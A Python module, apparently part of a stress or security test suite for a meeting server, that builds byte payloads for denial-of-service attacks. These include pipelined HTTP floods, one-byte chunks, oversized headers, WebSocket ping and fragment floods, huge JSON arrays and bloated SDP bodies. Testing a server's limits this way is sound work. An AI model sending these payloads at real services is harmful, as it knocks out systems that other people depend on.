"""Bytes of clients that send as much as they can: requests, chunks, frames and messages that cost a server most.

Each attack is bytes that are sent once, and bytes that are repeated for as long as the server reads them.
"""

from __future__ import annotations

import json
import struct
from collections.abc import Callable, Mapping
from types import MappingProxyType
from typing import Final

from attrs import field, frozen

MAX: Final = 900 << 10
"""Bytes of a large message: a server reads at most 1 MiB, and a new connection has the budget for a little less."""
TEXT, PING, PONG = 1, 9, 10
_MASK: Final = b"\x01\x02\x03\x04"
_ID: Final = "437679f8-4adb-4ccc-b02d-fedbb5cf2b8b"


def frame(opcode: int, payload: bytes = b"", *, fin: bool = True) -> bytes:
    """A masked frame of a client (RFC 6455 s.5.2)."""
    size = len(payload)
    first = fin << 7 | opcode
    if size < 126:
        head = struct.pack("!BB", first, 0x80 | size)
    elif size < 1 << 16:
        head = struct.pack("!BBH", first, 0x80 | 126, size)
    else:
        head = struct.pack("!BBQ", first, 0x80 | 127, size)
    key = (_MASK * (size // 4 + 1))[:size]
    return head + _MASK + (int.from_bytes(payload, "big") ^ int.from_bytes(key, "big")).to_bytes(size, "big")


def text(namespace: str, **payload: object) -> bytes:
    """A command as one text frame."""
    return frame(TEXT, json.dumps({"namespace": namespace, "payload": payload}).encode())


def values(value: str, *, separator: str = ",") -> bytes:
    """A command of `MAX` bytes with as many of ``value`` as fit into an array that no class has."""
    begin, end = '{"namespace":"chat","payload":{"action":"x","a":[', "]}}"
    room = MAX - len(begin) - len(end)
    return frame(TEXT, (begin + separator.join([value] * (room // (len(value) + len(separator)))) + end).encode())


@frozen
class Target:
    """What an attacker knows of the meeting that it attacks."""

    room: str
    code: str
    participant: str = ""
    """The attacker's own id; empty over HTTP."""

    @property
    def start(self) -> bytes:
        """The request for a ticket."""
        body = json.dumps({"invite_code": self.code}).encode()
        head = f"POST /v1/rooms/{self.room}/start_invited HTTP/1.1\r\nHost: a\r\nContent-Type: application/json\r\n"
        return f"{head}Content-Length: {len(body)}\r\n\r\n".encode() + body


@frozen
class Attack:
    """An attack by one connection."""

    repeated: Callable[[Target], bytes] = field(repr=False)
    once: bytes = field(default=b"", repr=False)
    is_joined: bool = True
    """Whether it comes over the WebSocket of a participant; else it is HTTP."""
    reads: bool = True
    """Whether the attacker reads what the server answers."""


_GET: Final = b"GET /v1/auth/login HTTP/1.1\r\nHost: a\r\n\r\n"
_CHUNKED: Final = b"POST /v1/invite/verify HTTP/1.1\r\nHost: a\r\nTransfer-Encoding: chunked\r\n\r\n"


def _same(data: bytes) -> Callable[[Target], bytes]:
    return lambda _: data


def _publish(target: Target) -> bytes:
    sdp = (
        "v=0\r\no=- 1 1 IN IP4 0.0.0.0\r\ns=-\r\nt=0 0\r\nm=audio 9 UDP/TLS/RTP/SAVPF 0\r\n"
        + "a=x:yyyyyyyy\r\n" * 4_000
    )
    return text("media", action="publish", target=target.participant, media_session_type="video", sdp=sdp)


ATTACKS: Final[Mapping[str, Attack]] = MappingProxyType(
    {
        "pipelined requests": Attack(_same(_GET * 6_000), is_joined=False),
        "pipelined requests, unread": Attack(_same(_GET * 6_000), is_joined=False, reads=False),
        "requests for tickets": Attack(lambda target: target.start * 1_000, is_joined=False),
        "chunks of one byte": Attack(_same(b"1\r\na\r\n" * 40_000), once=_CHUNKED, is_joined=False),
        "a long head": Attack(_same(b"a:b\r\n" * 40_000), once=b"GET / HTTP/1.1\r\nHost: a\r\n", is_joined=False),
        "pings": Attack(_same(frame(PING) * 40_000)),
        "pings, unread": Attack(_same(frame(PING, b"x" * 125) * 4_000), reads=False),
        "pongs": Attack(_same(frame(PONG) * 40_000)),
        "empty fragments": Attack(_same(frame(0, fin=False) * 40_000), once=frame(TEXT, b"a", fin=False)),
        "broken fragments": Attack(_same((frame(TEXT, b"\xff", fin=False) + frame(0)) * 20_000)),
        "raised hands": Attack(_same(text("control", action="raise_hand") * 5_000)),
        "chat": Attack(_same(text("chat", action="send_message", scope="global", content="hello") * 5_000)),
        "lists in place of texts": Attack(
            _same(text("chat", action="send_message", scope="global", content=["x"] * 170_000))
        ),
        "lists of ids": Attack(_same(text("media", action="moderator_enable_force_mute", allow_list=[_ID] * 22_000))),
        "long descriptions": Attack(_publish),
        "numbers": Attack(_same(values("1"))),
        "fractions": Attack(_same(values("1e9"))),
        "empty objects": Attack(_same(values("{}"))),
        "nested lists": Attack(_same(values("[[[[]]]]"))),
        "escapes": Attack(_same(values('"' + "\\u0041" * 10_000 + '"'))),
        "blanks": Attack(_same(frame(TEXT, b" " * (MAX - 1) + b"1"))),
    }
)
